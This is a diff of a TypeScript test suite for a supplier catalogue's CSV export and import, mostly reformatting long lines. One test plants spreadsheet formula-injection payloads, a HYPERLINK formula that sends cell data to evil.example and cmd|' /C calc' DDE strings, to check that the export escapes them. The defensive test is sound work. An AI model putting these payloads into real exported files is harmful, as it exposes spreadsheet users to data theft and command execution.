@@ -15,7 +15,8 @@ let rival: Person;
 let supplier: Awaited<ReturnType<typeof createSupplier>>;
 let rivalSupplier: Awaited<ReturnType<typeof createSupplier>>;
 
-const call = (person: Person | null, method: InjectOptions['method'], url: string, payload?: unknown) => callAs(t, person, method, url, payload);
+const call = (person: Person | null, method: InjectOptions['method'], url: string, payload?: unknown) =>
+  callAs(t, person, method, url, payload);
 const mine = (path = '') => `/api/suppliers/${supplier.slug}${path}`;
 
 type Row = Partial<Record<(typeof CATALOGUE_CSV_COLUMNS)[number], string>>;
@@ -47,7 +48,8 @@ function file(rows: Row[], columns: string[] = [...CATALOGUE_CSV_COLUMNS]) {
 
 const importing = (body: Record<string, unknown>, person: Person = member) => call(person, 'POST', mine('/products/import'), body);
 
-const newProduct = async (body: Record<string, unknown>) => parseAnswer(await call(member, 'POST', mine('/products'), body), 201, CatalogueProduct);
+const newProduct = async (body: Record<string, unknown>) =>
+  parseAnswer(await call(member, 'POST', mine('/products'), body), 201, CatalogueProduct);
 const newSku = async (productId: string, body: Record<string, unknown>) => {
   const response = await call(member, 'POST', `/api/products/${productId}/skus`, body);
   expect(response.statusCode, response.body).toBe(201);
@@ -92,13 +94,36 @@ describe('template and export', () => {
     const parsed = Papa.parse<Record<string, string>>(response.body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
     expect(parsed.meta.fields).toEqual([...CATALOGUE_CSV_COLUMNS]);
     expect(parsed.data.map((row) => row.sku_name)).toEqual(['50 L keg', '16 × 375 mL cans']);
-    const report = parseAnswer(await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: true }), 200, CatalogueImportReport);
-    expect(report).toMatchObject({ validRows: 2, invalidRows: 0, issues: [], products: { created: 1, updated: 0 }, skus: { created: 2, updated: 0 } });
+    const report = parseAnswer(
+      await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: true }),
+      200,
+      CatalogueImportReport,
+    );
+    expect(report).toMatchObject({
+      validRows: 2,
+      invalidRows: 0,
+      issues: [],
+      products: { created: 1, updated: 0 },
+      skus: { created: 2, updated: 0 },
+    });
   });
 
   it('export gives one row per SKU; importing it back changes nothing but versions and creates nothing', async () => {
     const imported = parseAnswer(
-      await importing({ ...file([keg('EXP-KEG', { product_name: 'Export Lager', tags: 'crisp|lager', stock_on_hand: '7' }), keg('EXP-CAN', { product_name: 'Export Lager', tags: 'crisp|lager', sku_name: '24 × 375 mL', units_per_pack: '24', volume_ml: '375', price: '68.5' })]), dryRun: false }),
+      await importing({
+        ...file([
+          keg('EXP-KEG', { product_name: 'Export Lager', tags: 'crisp|lager', stock_on_hand: '7' }),
+          keg('EXP-CAN', {
+            product_name: 'Export Lager',
+            tags: 'crisp|lager',
+            sku_name: '24 × 375 mL',
+            units_per_pack: '24',
+            volume_ml: '375',
+            price: '68.5',
+          }),
+        ]),
+        dryRun: false,
+      }),
       200,
       CatalogueImportReport,
     );
@@ -109,10 +134,29 @@ describe('template and export', () => {
     const parsed = Papa.parse<Record<string, string>>(response.body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
     const lager = parsed.data.filter((row) => row.product_name === 'Export Lager');
     expect(lager).toEqual([
-      expect.objectContaining({ product_slug: 'export-lager', sku_code: 'EXP-KEG', price: '289.00', tax_rate: '10', tags: 'crisp|lager', abv: '4.8', stock_on_hand: '7', volume_ml: '50000' }),
-      expect.objectContaining({ product_slug: 'export-lager', sku_code: 'EXP-CAN', price: '68.50', units_per_pack: '24', stock_on_hand: '' }),
+      expect.objectContaining({
+        product_slug: 'export-lager',
+        sku_code: 'EXP-KEG',
+        price: '289.00',
+        tax_rate: '10',
+        tags: 'crisp|lager',
+        abv: '4.8',
+        stock_on_hand: '7',
+        volume_ml: '50000',
+      }),
+      expect.objectContaining({
+        product_slug: 'export-lager',
+        sku_code: 'EXP-CAN',
+        price: '68.50',
+        units_per_pack: '24',
+        stock_on_hand: '',
+      }),
     ]);
-    const again = parseAnswer(await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: false }), 200, CatalogueImportReport);
+    const again = parseAnswer(
+      await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: false }),
+      200,
+      CatalogueImportReport,
+    );
     expect(again.products.created).toBe(0);
     expect(again.skus.created).toBe(0);
     const product = parseAnswer(await call(member, 'GET', mine('/products/export-lager')), 200, CatalogueProduct);
@@ -128,8 +172,8 @@ describe('template and export', () => {
     const planted = await newProduct({
       name: '=HYPERLINK("https://evil.example/?"&A1,"Click for the price list")',
       style: '+Sour',
-      description: "-1 day fresh, @ the brewery",
-      origin: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      description: '-1 day fresh, @ the brewery',
+      origin: "@SUM(1+1)*cmd|' /C calc'!A0",
       tags: ['=1+1', 'hazy'],
     });
     const quoted = await newProduct({ name: "'=Quoted already", style: "'plain quote", description: 'Plain' });
@@ -151,14 +195,29 @@ describe('template and export', () => {
       tax_rate: '10',
     });
     // a value that starts with a quote before a formula character gets one more, so the import can take exactly one off
-    expect(row('FORMULA-2')).toMatchObject({ product_name: "''=Quoted already", style: "'plain quote", sku_name: "'-Half keg", price: '0.00' });
+    expect(row('FORMULA-2')).toMatchObject({
+      product_name: "''=Quoted already",
+      style: "'plain quote",
+      sku_name: "'-Half keg",
+      price: '0.00',
+    });
     // no text cell of the file starts with a formula character
     for (const cells of parsed.data) for (const value of Object.values(cells)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
 
-    const report = parseAnswer(await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: false }), 200, CatalogueImportReport);
+    const report = parseAnswer(
+      await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: false }),
+      200,
+      CatalogueImportReport,
+    );
     expect(report.invalidRows).toBe(0);
     const back = parseAnswer(await call(member, 'GET', mine(`/products/${planted.slug}`)), 200, CatalogueProduct);
-    expect(back).toMatchObject({ name: planted.name, style: '+Sour', description: planted.description, origin: planted.origin, tags: ['=1+1', 'hazy'] });
+    expect(back).toMatchObject({
+      name: planted.name,
+      style: '+Sour',
+      description: planted.description,
+      origin: planted.origin,
+      tags: ['=1+1', 'hazy'],
+    });
     expect(back.skus.map((sku) => sku.name)).toEqual(["=cmd|' /C calc'!A0"]);
     const backQuoted = parseAnswer(await call(member, 'GET', mine(`/products/${quoted.slug}`)), 200, CatalogueProduct);
     expect(backQuoted).toMatchObject({ name: "'=Quoted already", style: "'plain quote" });
@@ -181,13 +240,24 @@ describe('import', () => {
       keg('RE-STOUT', { product_name: 'Night Stout', product_slug: 'night-stout-csv', product_status: 'active', stock_on_hand: '3' }),
     ];
     const dry = parseAnswer(await importing({ ...file(rows), dryRun: true }), 200, CatalogueImportReport);
-    expect(dry).toMatchObject({ dryRun: true, committed: false, validRows: 3, products: { created: 2, updated: 0 }, skus: { created: 3, updated: 0 } });
+    expect(dry).toMatchObject({
+      dryRun: true,
+      committed: false,
+      validRows: 3,
+      products: { created: 2, updated: 0 },
+      skus: { created: 3, updated: 0 },
+    });
     expect((await call(member, 'GET', mine('/products/night-stout-csv'))).statusCode).toBe(404);
 
     const first = parseAnswer(await importing({ ...file(rows), dryRun: false }), 200, CatalogueImportReport);
     expect(first).toMatchObject({ committed: true, products: { created: 2, updated: 0 }, skus: { created: 3, updated: 0 } });
     const stout = parseAnswer(await call(member, 'GET', mine('/products/night-stout-csv')), 200, CatalogueProduct);
-    expect(stout).toMatchObject({ status: 'active', tags: ['hoppy', 'sessionable'], origin: 'Sydney, NSW', skus: [expect.objectContaining({ code: 'RE-STOUT', stockOnHand: 3, unitPriceCents: 28900, taxRateBasisPoints: 1000 })] });
+    expect(stout).toMatchObject({
+      status: 'active',
+      tags: ['hoppy', 'sessionable'],
+      origin: 'Sydney, NSW',
+      skus: [expect.objectContaining({ code: 'RE-STOUT', stockOnHand: 3, unitPriceCents: 28900, taxRateBasisPoints: 1000 })],
+    });
     const ipa = parseAnswer(await call(member, 'GET', mine('/products/reimport-ipa')), 200, CatalogueProduct);
     expect(ipa.skus.map((sku) => sku.code)).toEqual(['RE-KEG', 'RE-CAN']);
 
@@ -201,17 +271,33 @@ describe('import', () => {
   });
 
   it('a column left out keeps the stored value; the others change', async () => {
-    parseAnswer(await importing({ ...file([keg('KEEP-1', { product_name: 'Keeper', stock_on_hand: '9', description: 'Kept' })]), dryRun: false }), 200, CatalogueImportReport);
+    parseAnswer(
+      await importing({ ...file([keg('KEEP-1', { product_name: 'Keeper', stock_on_hand: '9', description: 'Kept' })]), dryRun: false }),
+      200,
+      CatalogueImportReport,
+    );
     const columns = ['sku_code', 'sku_name', 'price', 'product_name'];
-    const report = parseAnswer(await importing({ ...file([{ sku_code: 'KEEP-1', sku_name: 'Half keg', price: '150', product_name: 'Keeper' }], columns), dryRun: false }), 200, CatalogueImportReport);
+    const report = parseAnswer(
+      await importing({
+        ...file([{ sku_code: 'KEEP-1', sku_name: 'Half keg', price: '150', product_name: 'Keeper' }], columns),
+        dryRun: false,
+      }),
+      200,
+      CatalogueImportReport,
+    );
     expect(report).toMatchObject({ skus: { created: 0, updated: 1 }, products: { created: 0, updated: 1 } });
     const product = parseAnswer(await call(member, 'GET', mine('/products/keeper')), 200, CatalogueProduct);
-    expect(product).toMatchObject({ description: 'Kept', skus: [expect.objectContaining({ name: 'Half keg', unitPriceCents: 15000, stockOnHand: 9, volumeMl: 50000 })] });
+    expect(product).toMatchObject({
+      description: 'Kept',
+      skus: [expect.objectContaining({ name: 'Half keg', unitPriceCents: 15000, stockOnHand: 9, volumeMl: 50000 })],
+    });
   });
 
   it('a missing column is named on the header line and nothing is written', async () => {
     const columns = CATALOGUE_CSV_COLUMNS.filter((column) => column !== 'price');
-    const report = await expectRefusedImport(file([keg('MISS-1')], columns), [{ row: 1, field: 'price', message: 'the column price is missing' }]);
+    const report = await expectRefusedImport(file([keg('MISS-1')], columns), [
+      { row: 1, field: 'price', message: 'the column price is missing' },
+    ]);
     expect(report.validRows).toBe(0);
   });
 
@@ -235,7 +321,11 @@ describe('import', () => {
   });
 
   it('units per pack, volume or stock below zero are named by line and column, on new and stored SKUs alike; nothing is written', async () => {
-    parseAnswer(await importing({ ...file([keg('QTY-STORED', { product_name: 'Stored Qty', stock_on_hand: '5' })]), dryRun: false }), 200, CatalogueImportReport);
+    parseAnswer(
+      await importing({ ...file([keg('QTY-STORED', { product_name: 'Stored Qty', stock_on_hand: '5' })]), dryRun: false }),
+      200,
+      CatalogueImportReport,
+    );
     const rows = [
       keg('QTY-UNITS', { product_name: 'Qty Ale', units_per_pack: '-1' }),
       keg('QTY-ZERO', { product_name: 'Qty Ale', units_per_pack: '0' }),
@@ -257,14 +347,26 @@ describe('import', () => {
 
   it('a slug another supplier holds is refused on that row', async () => {
     await createProduct(t.database.db, { supplierId: rivalSupplier.id, slug: 'rival-only-ale', name: 'Rival Only Ale' });
-    await expectRefusedImport(file([keg('SLUG-1', { product_slug: 'rival-only-ale' })]), [{ row: 2, field: 'product_slug', message: expect.stringContaining('another supplier') as unknown as string }]);
+    await expectRefusedImport(file([keg('SLUG-1', { product_slug: 'rival-only-ale' })]), [
+      { row: 2, field: 'product_slug', message: expect.stringContaining('another supplier') as unknown as string },
+    ]);
   });
 
   it('onlyValid writes the valid rows and reports the others', async () => {
     const counts = await catalogueRowCounts(t.database.db);
-    const rows = [keg('ONLY-1', { product_name: 'Only Valid' }), keg('ONLY-2', { product_name: 'Only Valid', price: 'abc' }), keg('ONLY-3', { product_name: 'Only Valid', sku_name: 'Can', price: '2.5' })];
+    const rows = [
+      keg('ONLY-1', { product_name: 'Only Valid' }),
+      keg('ONLY-2', { product_name: 'Only Valid', price: 'abc' }),
+      keg('ONLY-3', { product_name: 'Only Valid', sku_name: 'Can', price: '2.5' }),
+    ];
     const report = parseAnswer(await importing({ ...file(rows), dryRun: false, onlyValid: true }), 200, CatalogueImportReport);
-    expect(report).toMatchObject({ committed: true, validRows: 2, invalidRows: 1, issues: [expect.objectContaining({ row: 3, field: 'price' })], skus: { created: 2, updated: 0 } });
+    expect(report).toMatchObject({
+      committed: true,
+      validRows: 2,
+      invalidRows: 1,
+      issues: [expect.objectContaining({ row: 3, field: 'price' })],
+      skus: { created: 2, updated: 0 },
+    });
     const product = parseAnswer(await call(member, 'GET', mine('/products/only-valid')), 200, CatalogueProduct);
     expect(product.skus.map((sku) => [sku.code, sku.unitPriceCents])).toEqual([
       ['ONLY-1', 28900],
@@ -283,7 +385,12 @@ describe('import', () => {
     const started = performance.now();
     const report = parseAnswer(await importing({ ...file(rows), dryRun: false }), 200, CatalogueImportReport);
     console.log(`imported 2000 rows in ${Math.round(performance.now() - started)} ms`);
-    expect(report).toMatchObject({ committed: true, validRows: 2000, products: { created: 500, updated: 0 }, skus: { created: 2000, updated: 0 } });
+    expect(report).toMatchObject({
+      committed: true,
+      validRows: 2000,
+      products: { created: 500, updated: 0 },
+      skus: { created: 2000, updated: 0 },
+    });
     const list = parseAnswer(await call(member, 'GET', mine('/catalogue?q=Bulk%20Beer&pageSize=1')), 200, CatalogueProductList);
     expect(list.total).toBe(500);
   });
